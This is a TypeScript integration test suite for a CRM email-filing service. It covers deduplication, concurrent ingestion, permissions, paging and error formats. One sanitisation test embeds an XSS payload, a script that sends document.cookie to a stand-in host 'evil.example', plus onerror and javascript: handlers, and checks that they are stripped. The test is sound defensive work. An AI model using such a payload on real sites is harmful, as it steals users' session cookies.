import { RecordsRequests as R, EmailDto, MailAttachmentMeta } from '@crm/contracts';
import { factories, ordersNeedingSort, Stack, startStack } from '@crm/testing';
import request from 'supertest';
import { TransactionRunner, Tx } from '@crm/platform';
import { communicationsService } from '../src/app';
import { EmailIngestService } from '../src/modules/emails/email-ingest.service';
import { EMAIL_LIST_SPEC } from '../src/modules/emails/emails.repository';
import { EmailEntity } from '../src/modules/emails/entities/email.entity';
import { MailEventPublisher, mailEvent } from './mail-events';
import { Api, Auth, eventually, processedByCommunications } from './support';

type Item = { data: EmailDto; meta: { type: string } };
const ids = (body: { items: Item[] }) => body.items.map((item) => item.data.id);

const attachment = (id: number, filename: string, sha256: string): MailAttachmentMeta => ({
  id,
  filename,
  content_type: 'application/pdf',
  size: 1234,
  content_id: null,
  sha256,
});

/** Emails filed through `mail.message.received.v1` on real JetStream, read through the gateway. */
describe('emails', () => {
  let stack: Stack;
  let api: Api;
  let auth: Auth;
  let admin: { accountId: number; userId: number };
  let mail: MailEventPublisher;

  beforeAll(async () => {
    // Two replicas share the durable consumer, as in production.
    stack = await startStack({ services: ['records', communicationsService, 'gateway'], replicas: { communications: 2 } });
    api = request(stack.gatewayUrl);
    const account = await stack.createAccount();
    auth = account.auth;
    admin = { accountId: account.accountId, userId: account.userId };
    mail = await MailEventPublisher.connect(stack);
  });
  afterAll(async () => {
    await mail?.close();
    await stack?.stop();
  });

  const createContact = async (a: Auth = auth, attributes: Record<string, unknown> = {}) =>
    (await api.post('/v2/contacts').set(a).send({ data: factories.person(attributes) }).expect(200)).body.data as { id: number };
  const file = async (event: ReturnType<typeof mailEvent>, eventId?: string) => {
    const published = await mail.publish(event, eventId);
    await eventually(async () => expect(await processedByCommunications(stack, published.eventId)).toBe(true));
    return published;
  };
  const emailsOn = async (resourceType: string, resourceId: number, a: Auth = auth, extra: Record<string, unknown> = {}) =>
    (await api.get('/v2/emails').query({ resource_type: resourceType, resource_id: resourceId, ...extra }).set(a).expect(200)).body;

  it('files an email on its records and lists them newest first, paged, in Sell envelopes', async () => {
    const contact = await createContact();
    const link = [{ resource_type: 'contact' as const, resource_id: contact.id }];
    const january = mailEvent(admin.accountId, { links: link, date: '2024-01-10T09:00:00Z', subject: 'January' });
    const march = mailEvent(admin.accountId, {
      links: link,
      date: '2024-03-10T09:00:00Z',
      subject: 'March',
      direction: 'sent',
      userId: admin.userId,
      cc: [{ email: 'boss@customer.example', name: 'Boss' }],
      inReplyTo: 'earlier@mail.example.com',
      references: ['first@mail.example.com', 'earlier@mail.example.com'],
      attachments: [attachment(501, 'quote.pdf', 'aa')],
    });
    const february = mailEvent(admin.accountId, { links: link, date: '2024-02-10T09:00:00Z', subject: 'February' });
    for (const event of [january, march, february]) await file(event);

    const first = await emailsOn('contact', contact.id, auth, { per_page: 2 });
    expect(first.items.map((i: Item) => i.data.subject)).toEqual(['March', 'February']);
    expect(first.meta).toMatchObject({ type: 'collection', count: 2 });
    expect(first.meta.links.next_page).toContain('page=2');
    const second = await emailsOn('contact', contact.id, auth, { per_page: 2, page: 2 });
    expect(second.items.map((i: Item) => i.data.subject)).toEqual(['January']);
    expect(second.meta.links).not.toHaveProperty('next_page');
    expect(second.meta.links.prev_page).toContain('page=1');

    const sent = first.items[0] as Item;
    expect(sent).toEqual({
      data: {
        id: expect.any(Number),
        message_id: march.messageId,
        direction: 'sent',
        subject: 'March',
        text: 'Hello, here is the quote.',
        html: null,
        body_truncated: false,
        from: { email: 'pat@customer.example', name: 'Pat Customer' },
        to: [{ email: 'sales@crm.example', name: null }],
        cc: [{ email: 'boss@customer.example', name: 'Boss' }],
        date: '2024-03-10T09:00:00Z',
        in_reply_to: 'earlier@mail.example.com',
        references: ['first@mail.example.com', 'earlier@mail.example.com'],
        user_id: admin.userId,
        forwarded: false,
        attachments: [attachment(501, 'quote.pdf', 'aa')],
        resources: [{ resource_type: 'contact', resource_id: contact.id }],
        created_at: expect.any(String),
        updated_at: expect.any(String),
      },
      meta: { type: 'email' },
    });
    expect((await api.get(`/v2/emails/${sent.data.id}`).set(auth).expect(200)).body).toEqual(sent);
    expect(ids(await emailsOn('contact', contact.id, auth, { direction: 'sent' }))).toEqual([sent.data.id]);
    expect(ids(await emailsOn('contact', contact.id, auth, { sort_by: 'date:asc' })).at(-1)).toBe(sent.data.id);
    const byIds = await api.get('/v2/emails').query({ ids: `${sent.data.id}` }).set(auth).expect(200);
    expect(ids(byIds.body)).toEqual([sent.data.id]);
  });

  it('keeps one email per Message-ID: a second copy adds its links and attachments, a redelivery nothing', async () => {
    const contact = await createContact();
    const deal = (await api.post('/v2/deals').set(auth).send({ data: factories.deal() }).expect(200)).body.data as { id: number };
    const messageId = `same-${Date.now()}@mail.example.com`;
    const quote = attachment(601, 'quote.pdf', 'q1');
    await file(mailEvent(admin.accountId, { messageId, links: [{ resource_type: 'contact', resource_id: contact.id }], attachments: [quote] }));
    const copy = mailEvent(admin.accountId, {
      messageId,
      subject: 'Fwd: a later copy',
      links: [{ resource_type: 'deal', resource_id: deal.id }, { resource_type: 'contact', resource_id: contact.id }],
      // the same file stored again by mail-ingest under a new id, and a new one
      attachments: [attachment(611, 'quote.pdf', 'q1'), attachment(612, 'terms.pdf', 't1')],
    });
    const { eventId } = await file(copy);

    const onContact = await emailsOn('contact', contact.id);
    expect(onContact.items).toHaveLength(1);
    const email = onContact.items[0].data as EmailDto;
    expect(ids(await emailsOn('deal', deal.id))).toEqual([email.id]);
    expect(email).toMatchObject({
      message_id: messageId,
      subject: 'Quote for next quarter',
      resources: [
        { resource_type: 'contact', resource_id: contact.id },
        { resource_type: 'deal', resource_id: deal.id },
      ],
      attachments: [quote, attachment(612, 'terms.pdf', 't1')],
    });

    // The same event again: JetStream drops the repeated Nats-Msg-Id (and the inbox would skip it).
    expect((await mail.publish(copy, eventId)).ack.duplicate).toBe(true);
    // The same fact under a new event id, which the inbox cannot recognise: the upsert changes nothing.
    await file(copy);
    expect((await api.get(`/v2/emails/${email.id}`).set(auth).expect(200)).body.data).toEqual(email);
    expect((await emailsOn('contact', contact.id)).items).toHaveLength(1);
  });

  it('gives one email with every link when copies of a message are filed concurrently', async () => {
    const messageId = `race-${Date.now()}@mail.example.com`;
    const contacts = await Promise.all([1, 2, 3, 4, 5, 6].map(() => createContact()));
    await Promise.all(
      contacts.map((c, i) =>
        file(mailEvent(admin.accountId, { messageId, links: [{ resource_type: 'contact', resource_id: c.id }], attachments: [attachment(700 + i, `part${i}.pdf`, `p${i}`)] })),
      ),
    );
    const lists = await Promise.all(contacts.map((c) => emailsOn('contact', c.id)));
    const emailIds = new Set(lists.flatMap((list) => ids(list)));
    expect(emailIds.size).toBe(1);
    const email = (await api.get(`/v2/emails/${[...emailIds][0]}`).set(auth).expect(200)).body.data as EmailDto;
    expect(email.resources).toHaveLength(contacts.length);
    expect(email.attachments.map((a) => a.id).sort()).toEqual([700, 701, 702, 703, 704, 705]);

    // The same race without the broker in between: ten transactions at once on one Message-ID.
    const app = stack.services.find((s) => s.name === 'communications')!.app;
    const raced = `race-direct-${Date.now()}@mail.example.com`;
    await Promise.all(
      contacts.concat(contacts.slice(0, 4)).map((c) =>
        app.get(TransactionRunner).run((tx) =>
          app.get(EmailIngestService).storeMany(tx, [mailEvent(admin.accountId, { messageId: raced, links: [{ resource_type: 'contact', resource_id: c.id }] })]),
        ),
      ),
    );
    const racedIds = new Set((await Promise.all(contacts.map((c) => emailsOn('contact', c.id)))).flatMap((list) => ids(list)));
    racedIds.delete(email.id);
    expect(racedIds.size).toBe(1);
    expect((await api.get(`/v2/emails/${[...racedIds][0]}`).set(auth).expect(200)).body.data.resources).toHaveLength(contacts.length);
  });

  it('files copies of one message that wait in one batch as one email, with every copy\'s links and attachments', async () => {
    const [first, second, other] = await Promise.all([createContact(), createContact(), createContact()]);
    const messageId = `batch-${Date.now()}@mail.example.com`;
    const link = (id: number) => [{ resource_type: 'contact' as const, resource_id: id }];
    const events = [
      mailEvent(admin.accountId, { messageId, links: link(first.id), attachments: [attachment(801, 'a.pdf', 'a1')] }),
      mailEvent(admin.accountId, { messageId: `other-${messageId}`, links: link(other.id) }),
      mailEvent(admin.accountId, { messageId, subject: 'a later copy', links: link(second.id), attachments: [attachment(802, 'a.pdf', 'a1'), attachment(803, 'b.pdf', 'b1')] }),
      mailEvent(admin.accountId, { messageId: `unlinked-${messageId}` }),
    ];
    const app = stack.services.find((s) => s.name === 'communications')!.app;
    const stored = await app.get(TransactionRunner).run((tx) => app.get(EmailIngestService).storeMany(tx, events));

    expect(stored[0]!.id).toBe(stored[2]!.id);
    expect(stored[1]!.id).not.toBe(stored[0]!.id);
    expect(stored[3]).toBeNull();
    const email = (await api.get(`/v2/emails/${stored[0]!.id}`).set(auth).expect(200)).body.data as EmailDto;
    expect(email).toMatchObject({
      message_id: messageId,
      subject: 'Quote for next quarter',
      attachments: [attachment(801, 'a.pdf', 'a1'), attachment(803, 'b.pdf', 'b1')],
    });
    expect(email.resources).toEqual(expect.arrayContaining([...link(first.id), ...link(second.id)]));
    expect(email.resources).toHaveLength(2);
    expect(ids(await emailsOn('contact', other.id))).toEqual([stored[1]!.id]);
  });

  it('stores HTML sanitised: no scripts, event handlers or javascript: links; formatting stays', async () => {
    const contact = await createContact();
    await file(
      mailEvent(admin.accountId, {
        links: [{ resource_type: 'contact', resource_id: contact.id }],
        html:
          '<p>Dear <b>Carl</b>,</p><script>fetch("https://evil.example/?c="+document.cookie)</script>' +
          '<img src="cid:logo@customer" onerror="alert(1)" alt="logo"><a href="javascript:alert(2)">open</a> ' +
          '<a href="https://customer.example/offer">the offer</a><ul><li>one</li></ul>',
      }),
    );
    const html = (await emailsOn('contact', contact.id)).items[0].data.html as string;
    expect(html).not.toMatch(/script|onerror|javascript|alert|evil/i);
    expect(html).toContain('<p>Dear <b>Carl</b>,</p>');
    expect(html).toContain('<img src="cid:logo@customer" alt="logo" />');
    expect(html).toContain('<a href="https://customer.example/offer" target="_blank" rel="noopener noreferrer nofollow">the offer</a>');
    expect(html).toContain('<ul><li>one</li></ul>');
  });

  it("shows a user who sees only own records the emails on their records, and nothing else", async () => {
    const roles = await stack.rpc.request(R.ListRoles, { ...admin, query: { page: 1, perPage: 25, filters: {}, customFields: {} } });
    const salesRep = roles.items.find((role) => role.name === 'Sales rep')!;
    const rep = (await api.post('/v2/users').set(auth).send({ data: factories.user({ role_id: salesRep.id }) }).expect(200)).body.data;
    const token = (await api.post(`/v2/users/${rep.id}/tokens`).set(auth).send({ data: { name: 'rep' } }).expect(201)).body.data;
    const repAuth = { Authorization: `Bearer ${token.access_token}` };

    const adminsContact = await createContact();
    const repsContact = await createContact(auth, { owner_id: rep.id });
    await file(mailEvent(admin.accountId, { links: [{ resource_type: 'contact', resource_id: adminsContact.id }], attachments: [attachment(801, 'a.pdf', 'a')] }));
    await file(mailEvent(admin.accountId, { links: [{ resource_type: 'contact', resource_id: repsContact.id }] }));
    const hidden = (await emailsOn('contact', adminsContact.id)).items[0].data as EmailDto;

    // The owner copy reaches communications through records' events.
    await eventually(async () => expect((await emailsOn('contact', repsContact.id, repAuth)).items).toHaveLength(1));
    expect((await emailsOn('contact', adminsContact.id, repAuth)).items).toEqual([]);
    await api.get(`/v2/emails/${hidden.id}`).set(repAuth).expect(404);
    await api.get(`/v2/emails/${hidden.id}/attachments/801`).set(repAuth).expect(404);
    const all = await api.get('/v2/emails').query({ per_page: 100 }).set(repAuth).expect(200);
    expect(ids(all.body)).not.toContain(hidden.id);
    await api.get(`/v2/emails/${hidden.id}`).set(auth).expect(200);
    const other = await stack.createAccount('Elsewhere');
    await api.get(`/v2/emails/${hidden.id}`).set(other.auth).expect(404);
  });

  it('pages an account\'s emails by date (the default) or id, either way, from an index without sorting them all', async () => {
    const transactions = stack.services.find((s) => s.name === 'communications')!.app.get(TransactionRunner);
    const rows = (tx: Tx) => tx.manager.getRepository(EmailEntity).createQueryBuilder('e');
    expect(await ordersNeedingSort(transactions, rows, 'e', EMAIL_LIST_SPEC, ['date', 'id'])).toEqual([]);
  });

  it('refuses bad list parameters in Sell\'s error format', async () => {
    const refusals: [Record<string, string>, number, string, string][] = [
      [{ resource_type: 'contact' }, 422, '/resource_id', 'blank'],
      [{ resource_id: '5' }, 422, '/resource_type', 'blank'],
      [{ resource_type: 'visit', resource_id: '1' }, 422, '/resource_type', 'invalid'],
      [{ resource_type: 'contact', resource_id: 'abc' }, 422, '/resource_id', 'invalid'],
      [{ direction: 'sideways' }, 400, '/direction', 'invalid_param'],
      [{ unknown: 'x' }, 400, '/unknown', 'invalid_param'],
      [{ sort_by: 'subject:asc' }, 400, '/sort_by', 'invalid_param'],
    ];
    for (const [query, status, field, code] of refusals) {
      const response = await api.get('/v2/emails').query(query).set(auth);
      expect({ query, status: response.status }).toEqual({ query, status });
      expect(response.body.errors).toEqual(expect.arrayContaining([expect.objectContaining({ error: expect.objectContaining({ field, code }) })]));
      expect(response.body.meta).toMatchObject({ type: 'errors', logref: expect.any(String) });
    }
    await api.get('/v2/emails/abc').set(auth).expect(404);
    await api.get('/v2/emails/2000000000').set(auth).expect(404);
  });

  it('documents the endpoints in the OpenAPI document', async () => {
    const docs = await api.get('/docs-json').expect(200);
    expect(Object.keys(docs.body.paths)).toEqual(
      expect.arrayContaining(['/v2/emails', '/v2/emails/{id}', '/v2/emails/{id}/attachments/{attachment_id}']),
    );
  });
});
